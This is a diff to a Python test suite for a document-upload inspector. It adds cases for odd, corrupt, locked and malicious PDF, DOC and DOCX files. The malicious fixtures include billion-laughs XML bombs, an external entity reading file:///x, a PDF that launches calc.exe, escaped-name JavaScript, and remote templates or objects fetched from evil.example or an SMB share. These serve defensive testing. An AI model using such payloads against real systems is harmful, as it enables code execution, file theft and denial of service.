@@ -69,6 +69,12 @@ def test_a_real_file_of_each_type_is_taken(
     assert inspector.inspect(DATA / name, kind) == findings
 
 
+OPEN, WORD, OFFICE = (
+    "application/vnd.openxmlformats-officedocument",
+    "application/vnd.ms-word",
+    "application/vnd.ms-office",
+)
+LETTER = f"{OPEN}.wordprocessingml.document.main+xml"
 TAKEN = {
     "2,000 pages": (pdf(pages=2000), "pdf", Findings(pages=2000)),
     "junk before": (b"\r\n" * 500 + pdf(), "pdf", Findings(pages=1)),
@@ -86,6 +92,15 @@ TAKEN = {
     "a sheet in a letter": (docx({"word/media/a.xlsx": samples.archive({"a": "b"})}), "docx", Findings()),
     "broken details": (docx({"docProps/core.xml": "<broken"}), "docx", Findings()),
     "details with entities": (docx({"docProps/core.xml": "<!DOCTYPE a []><a/>"}), "docx", Findings()),
+    "one that Word calls strict": (docx(words=samples.STRICT), "docx", Findings()),
+    "types in UTF-16": (samples.package({"/word/document.xml": LETTER}, "utf-16"), "docx", Findings()),
+    "parts named in capitals": (samples.package({"/WORD/document.xml": LETTER}), "docx", Findings()),
+    "a type for every part": (samples.package({".xml": LETTER}), "docx", Findings()),
+    "a link to the web": (
+        docx({"word/_rels/document.xml.rels": samples.links("https://a.example", "hyperlink")}),
+        "docx",
+        Findings(),
+    ),
     "Word 6": (ole({"WordDocument": word_stream(0xA5DC)}), "doc", Findings()),
 }
 
@@ -99,6 +114,10 @@ def test_unusual_but_honest_files_are_taken(look, case: str) -> None:
 
 
 MISMATCHES = {
+    "sheet with a letter among its parts": (
+        samples.package({"/xl/workbook.xml": f"{OPEN}.spreadsheetml.sheet.main+xml"}),
+        "docx",
+    ),
     "sheet as letter": (docx(part="xl/workbook.xml", kind="spreadsheetml.sheet"), "docx"),
     "plain zip": (samples.archive({"readme.txt": "hello"}), "docx"),
     "zip with a document but no types": (samples.archive({"word/document.xml": samples.WORDS}), "docx"),
@@ -131,6 +150,14 @@ CORRUPT = {
     "OLE without document": (ole({"WordDocument": b"nothing"}), "doc"),
     "zip cut short": (docx()[:-40], "docx"),
     "text with a wrong sum": (docx().replace(b"PK\x01\x02", b"PK\x01\x03"), "docx"),
+    "DOC cut short": (ole({"WordDocument": word_stream(), "0Table": b"x"})[:-4096], "doc"),
+    "DOC without its tables": (ole({"WordDocument": word_stream()}), "doc"),
+    "text that is no XML": (docx(words="hello"), "docx"),
+    "text that breaks off": (docx(words="<d><unclosed></d>"), "docx"),
+    "types that are no XML": (
+        samples.archive({"[Content_Types].xml": "x", "word/document.xml": samples.WORDS}),
+        "docx",
+    ),
     "entity from elsewhere": (docx(words='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///x">]><d/>'), "docx"),
 }
 BOMBS = {
@@ -152,6 +179,10 @@ BOMBS = {
     "zips in zips": (docx({"word/embeddings/a.zip": samples.nested(3)}), "docx"),
     "a billion laughs": (
         docx(words='<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'),
+        "docx",
+    ),
+    "a billion laughs behind a long comment": (
+        docx(words=f'<!--{"x" * 100_000}--><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'),
         "docx",
     ),
     "a billion laughs in UTF-16": (
@@ -189,8 +220,9 @@ def test_the_codes_of_inspection_name_the_file_and_what_would_be_right(code: str
 LOCKED = {
     "PDF with a password": (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "pdf", None),
     "PDF that only limits": (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "pdf", 1),
-    "DOC": (ole({"WordDocument": word_stream(flags=0x0100)}), "doc", None),
+    "DOC": (ole({"WordDocument": word_stream(flags=0x0100), "0Table": b"x"}), "doc", None),
     "DOCX": (ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "docx", None),
+    "PDF with a certificate": (samples.pdf_locked_by_certificate(), "pdf", None),
 }
 
 
@@ -219,15 +251,35 @@ ARMED = {
         pdf(catalogue={"/OpenAction": samples.script()}, encryption=pikepdf.Encryption(owner="o", user="u")),
         "pdf",
     ),
+    "script in a locked PDF under an escaped name": (
+        pdf(
+            catalogue={"/OpenAction": samples.script()}, encryption=pikepdf.Encryption(owner="o", user="u")
+        ).replace(b"/JavaScript", b"/J#61vaScript"),
+        "pdf",
+    ),
     "program": (pdf(catalogue={"/OpenAction": Dictionary(S=Name.Launch, F="calc.exe")}), "pdf"),
     "embedded file": (samples.pdf_with_file(), "pdf"),
     "form with scripts": (pdf(catalogue={"/AcroForm": Dictionary(XFA="x", Fields=Array([]))}), "pdf"),
-    "DOC with macros": (ole({"WordDocument": word_stream(), "Macros": b"x"}), "doc"),
-    "DOC with a file": (ole({"WordDocument": word_stream(), "\x01Ole10Native": b"x"}), "doc"),
+    "DOC with macros": (ole({"WordDocument": word_stream(), "Macros": b"x", "0Table": b"x"}), "doc"),
+    "DOC with a file": (ole({"WordDocument": word_stream(), "\x01Ole10Native": b"x", "0Table": b"x"}), "doc"),
     "DOCX with macros": (docx({"word/vbaProject.bin": b"x"}), "docx"),
     "DOCX with a file": (docx({"word/embeddings/oleObject1.bin": b"x"}), "docx"),
     "DOCX with a template from the web": (linked("https://evil.example/a.dotm"), "docx"),
     "DOCX with a template from a share": (linked(r"file:///\\10.0.0.1\share\a.dotm"), "docx"),
+    "DOCX whose header takes an object from the web": (
+        docx({"word/_rels/header1.xml.rels": samples.links("https://evil.example/a", "oleObject")}),
+        "docx",
+    ),
+    "DOCX with a template that is spelled in entities": (
+        docx({"word/_rels/a.xml.rels": samples.links("https://evil.example/a", "frame", "Extern&#97;l")}),
+        "docx",
+    ),
+    "DOCX with macros under another name": (
+        samples.package(
+            {"/word/document.xml": f"{WORD}.document.macroEnabled.main+xml", "/a.bin": f"{OFFICE}.vbaProject"}
+        ),
+        "docx",
+    ),
 }
 
 
